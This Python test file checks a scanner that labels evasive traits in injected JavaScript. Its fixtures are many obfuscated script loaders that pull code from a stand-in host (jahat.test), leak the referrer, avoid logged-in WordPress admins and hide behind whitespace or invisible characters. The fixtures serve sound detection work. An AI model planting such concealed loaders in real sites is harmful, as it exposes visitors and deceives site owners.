"""What a script does besides hiding an address so that nobody finds it out."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cyberscan.parse.scripts.script import read
from tests.parse.test_scripts import b64, codes, hexed

URL = "https://jahat.test/tema.js"
HIDDEN = f"atob('{b64(URL)}')"
TAG = "document.createElement('script')"
ADD = "document.head.appendChild(s);"
LOADS = f"var s={TAG};s.src={HIDDEN};{ADD}"
EVADING = {
    "aside", "flagged", "fresh", "invisible", "layered", "masks", "reports", "retries", "seeks",
    "shy", "spread", "worked",
}  # fmt: skip
HASH = "136c1e07507f4a97"
MENU = (
    "document.querySelectorAll('.menu .anak').forEach(function(a){a.addEventListener('click',"
    "function(e){e.preventDefault();a.classList.toggle('buka');a.querySelector('ul').hidden=!1;"
    "document.querySelector('.tirai').classList.toggle('buka')})});"
    "document.querySelector('.atas').addEventListener('click',function(){scrollTo(0,0)});"
)


def traits(source: str) -> set[str]:
    code = read(source, "s")
    return {*code.traits} if code else set()


def loads(address: str) -> str:
    return f"var s={TAG};s.src={address};{ADD}"


def escaped(text: str) -> str:
    return "".join(f"%{ord(letter):02x}" for letter in text)


def shuffled() -> str:
    """Return a list of numbered pieces of the address, the even ones first."""
    pieces = [f'[{n},"{URL[n * 4 : n * 4 + 4]}"]' for n in (0, 2, 4, 6, 1, 3, 5)]
    return f"[{','.join(pieces)}]"


def writes(address: str) -> str:
    return f"document.write('<script src=\"'+{address}+'\"><\\/script>');"


@pytest.mark.parametrize(
    ("source", "found"),
    [
        (LOADS, set()),
        # Names of calls and tags.
        (LOADS.replace("'script'", "'tpircs'.split('').reverse().join('')"), {"masks"}),
        (LOADS.replace("'script'", f"atob('{b64('script')}')"), {"masks"}),
        (LOADS.replace("'script'", f"String.fromCharCode({codes('script')})"), {"masks"}),
        (LOADS.replace("atob(", "self['at'+'ob']("), {"masks"}),
        (LOADS.replace("atob(", 'self["a" + "to" + "b"]('), {"masks"}),
        (LOADS.replace("atob(", "self[['at','ob'].join('')]("), {"masks"}),
        # As obfuscators write them all, for HTML, and by one name.
        (LOADS.replace("'script'", f"'{hexed('script')}'"), set()),
        (LOADS.replace("'script'", "'scr'+'ipt'"), set()),
        (LOADS.replace("atob(", "self['atob']("), set()),
        (LOADS.replace("atob(", "tema['buka'+'Menu'](1);atob("), set()),
        # Where the visitor comes from.
        (loads(f"{HIDDEN}+'?r='+document.referrer"), {"reports"}),
        (loads(f"{HIDDEN}+'?r='+escape(document.referrer)"), {"reports"}),
        ("var r=encodeURIComponent(document.referrer);" + loads(f"{HIDDEN}+r"), {"reports"}),
        (loads(f"String.fromCharCode({codes(URL)})+document.referrer"), {"reports"}),
        (loads(f"{HIDDEN}+location.href"), set()),
        ("if(document.referrer){" + LOADS + "}", set()),
        ("var referrer='x';" + loads(f"{HIDDEN}+referrer"), set()),
        # One disguise within another.
        (loads(f"atob('{b64(URL[::-1])}').split('').reverse().join('')"), {"layered"}),
        (loads(f"atob('{b64(URL)[::-1]}'.split('').reverse().join(''))"), {"layered"}),
        (loads(f"window.atob(window.atob('{b64(b64(URL))}'))"), {"layered"}),
        (f"eval(atob('{b64(LOADS)}'))", {"layered"}),
        (f"import(atob('{b64(URL)[::-1]}'.split('').reverse().join('')))", {"layered"}),
        (f"import({HIDDEN}+'?'+Date.now())", {"fresh"}),
        (f"eval(atob('{b64(loads(repr(URL)))}'))", set()),
        (loads(f"atob('{b64(URL)[:9]}'+'{b64(URL)[9:]}')"), set()),
        (f"import({HIDDEN})", set()),
        (loads(f"'{URL[::-1]}'.split('').reverse().join('')"), set()),
        (loads(f"unescape(String.fromCharCode({codes(escaped(URL))}))"), {"layered"}),
        # As texts in UTF-8 are written.
        (loads(f"atob(unescape('{escaped(b64(URL))}'))"), set()),
        # In HTML that is written as well.
        (writes(HIDDEN), set()),
        (writes(f"{HIDDEN}+'?'+Date.now()"), {"fresh"}),
        (writes(f"{HIDDEN}+'?r='+document.referrer"), {"reports"}),
        (writes(f"atob('{b64(URL)[::-1]}'.split('').reverse().join(''))"), {"layered"}),
        (f"$('body').append('<iframe src=\"'+{HIDDEN}+'?'+Date.now()+'\">')", {"fresh"}),
        (writes(HIDDEN).replace("'<", "'<p id=\"'+Date.now()+'\"></p><", 1), set()),
        (writes(HIDDEN).replace("'<", "'<p>'+document.referrer+'</p><", 1), set()),
        (loads(f"'https:'+atob('{b64(URL[6:])[::-1]}'.split('').reverse().join(''))"), {"layered"}),
        # A note by a name of chance.
        (f"if(!window['{HASH}']){{window['{HASH}']=1;{LOADS}}}", {"flagged"}),
        (f"var k='{HASH}';if(!self[k]){{self[k]=1;{LOADS}}}", {"flagged"}),
        (f"localStorage.setItem('{HASH}',1);{LOADS}", {"flagged"}),
        (f"window.f{HASH}=1;{LOADS}", {"flagged"}),
        (f"window.sorot=1;window.kunci='{HASH}';{LOADS}", set()),
        (f"var k='{HASH}';{LOADS}", set()),
        (f"window['1234567890123456']=1;{LOADS}", set()),
        (f"window['abcdefabcdef']=1;{LOADS}", set()),
        (f"window['{HASH[:11]}']=1;{LOADS}", set()),
        # Where no editor shows it.
        (f"mulai();{' ' * 120}{LOADS}", {"aside"}),
        (f"mulai();{' ' * 90}{LOADS}", set()),
        (f"mulai();{' ' * 120}akhir();\n{LOADS}", set()),
        (LOADS.replace("s=", "\u3164=").replace("s.", "\u3164."), {"invisible"}),
        (f"var kosong='\u3164';{LOADS}", set()),
        # The time and chance.
        (loads(f"{HIDDEN}+'?'+Date.now()"), {"fresh"}),
        (loads(f"{HIDDEN}+'?'+(new Date).getTime()"), {"fresh"}),
        (loads(f"{HIDDEN}+'?'+(+new Date)"), {"fresh"}),
        ("var r=Math.random();" + loads(f"{HIDDEN}+r"), {"fresh"}),
        ("var r=Math.floor(Date.now()/6e5);" + loads(f"{HIDDEN}+r"), {"fresh"}),
        (loads(f"String.fromCharCode({codes(URL)})+'?'+Date.now()"), {"fresh"}),
        (loads(f"{HIDDEN}+'?v=4.1'"), set()),
        (loads(f"{HIDDEN}+'?d='+new Date().getDate()"), set()),
        (loads(f"{HIDDEN}+'?d='+new Date().toISOString().slice(0,10)"), set()),
        ("var mulai=Date.now();" + LOADS, set()),
        (LOADS.replace(";document", ",t=Date.now();document"), set()),
        (f"{LOADS}t=Date.now()", set()),
        # Letters that are worked out.
        (
            (
                f"var d=[{codes(URL, 7)}],t='';for(var i=0;i<d.length;i++)t+=String.fromCharCode("
                f"d[i]-7);{loads('t')}"
            ),
            {"worked"},
        ),
        (loads(f"String.fromCharCode.apply(null,[{codes(URL, 3)}].map(b=>b-3))"), {"worked"}),
        (loads("+".join(f"String.fromCharCode({ord(c)})" for c in URL)), {"worked"}),
        (loads(f"String.fromCharCode({codes(URL)})"), set()),
        (loads(f"String.fromCharCode.apply(null,[{codes(URL)}])"), set()),
        (
            (
                f"var h='{URL.encode().hex()}',t='';for(var i=0;i<h.length;i+=2)t+=String."
                f"fromCharCode(parseInt(h.substr(i,2),16));{loads('t')}"
            ),
            set(),
        ),
        (f"var u=buka('{''.join(chr(ord(c) + 1) for c in URL)}');{loads('u')}", {"worked"}),
        (f"var u=buka([{codes(URL)}]);{loads('u')}", set()),
        (f"var p={shuffled()};{loads('tata(p)')}", {"worked"}),
        # What it looks for.
        (f"if(document.cookie.indexOf(atob('{b64('_ga7=')}'))<0){{{LOADS}}}", {"seeks"}),
        (f"if(location.hostname.indexOf(atob('{b64('jdih')}'))<0){{{LOADS}}}", set()),
        (f"if(document.cookie.indexOf('tur=1')<0){{{LOADS}}}", set()),
        (f"if(!/wordpress_logged_in/.test(document.cookie)){{{LOADS}}}", {"shy"}),
        (f"var ajax='/wp-admin/admin-ajax.php';{LOADS}", set()),
        (f"if(outerWidth-innerWidth<200){{{LOADS}}}", {"shy"}),
        (f"if(!/bot|crawl/i.test(navigator.userAgent)){{{LOADS}}}", set()),
        (
            (
                f"function m(u,f){{var s={TAG};s.src=u;s.onerror=f;{ADD}}}m({HIDDEN},function(){{m("
                f"atob('{b64('https://lain.test/tema.js')}'))}})"
            ),
            {"retries"},
        ),
        ("eval(atob(d.dataset.a+d.dataset.b))", {"spread"}),
        ("eval(atob(['a','b'].map(function(k){return d.dataset[k]}).join('')))", {"spread"}),
        ("eval(atob(d.dataset.a))", set()),
        ("eval(atob(d.dataset.a)+b+c)", set()),
        ("eval(atob('x'+d.dataset.a))", set()),
        ("eval(atob(d.dataset.a+'='))", set()),
        # Of a script that hides nothing it is not asked.
        ("if(!/wordpress_logged_in/.test(document.cookie))location='https://x.test/'", set()),
    ],
)
def test_what_a_script_does_that_it_be_not_found(source: str, found: set[str]) -> None:
    assert traits(source) & EVADING == found


@pytest.mark.parametrize(
    ("source", "is_bare"),
    [
        (LOADS, True),
        (f"eval(atob('{b64(LOADS)}'))", True),
        (f"var a='https://x.test//';{LOADS}", True),
        (f"/* Tema Desa 4 */{LOADS}", False),
        (f"// Tema Desa 4\n{LOADS}", False),
        (LOADS + "s.id='tema'", False),
        (LOADS + "s.setAttribute('data-kunci','AB-1')", False),
        (LOADS + "s.setAttribute('async','')", True),
        (LOADS + "s.dataset.kunci='AB-1'", False),
        (LOADS + "s.onload=function(){mulai()}", False),
        (loads(f"atob('{b64(URL + '?kunci=AB-1')}')"), False),
        (LOADS + MENU, False),
        (LOADS + "a=1;" * 60, False),
        (f"eval(atob('{b64(LOADS)}'));" + "a=1;" * 60, False),
    ],
)
def test_a_script_that_does_nothing_else_and_says_nothing(source: str, *, is_bare: bool) -> None:
    assert ("bare" in traits(source)) is is_bare


@pytest.mark.parametrize(
    ("source", "is_apart"),
    [
        (MENU + LOADS, True),
        (LOADS + MENU, True),
        (f"{MENU}(function(){{{LOADS}}})();", True),
        (MENU + LOADS + MENU, False),
        (LOADS, False),
        # It belongs to what is there, or does more than that.
        (MENU.replace("scrollTo(0,0)", "muat()") + f"function muat(){{{LOADS}}}", False),
        (MENU + f"eval(atob('{b64(MENU + LOADS)}'))", False),
    ],
)
def test_what_stands_before_or_behind_the_rest(source: str, *, is_apart: bool) -> None:
    assert ("apart" in traits(source)) is is_apart


@given(st.lists(st.sampled_from(["fromCharCode(", "atob(", "Date", ".now()", "=", ".src", "a", "+",
    "'", "[", "]", "s", "document.createElement('script')", ";", "^", "7", ".map(", "onerror",
    "indexOf(", ".join(", ")", "//", "/*"]), max_size=80))  # fmt: skip
def test_no_script_makes_it_raise(pieces: list[str]) -> None:
    read(LOADS + "".join(pieces), "s")
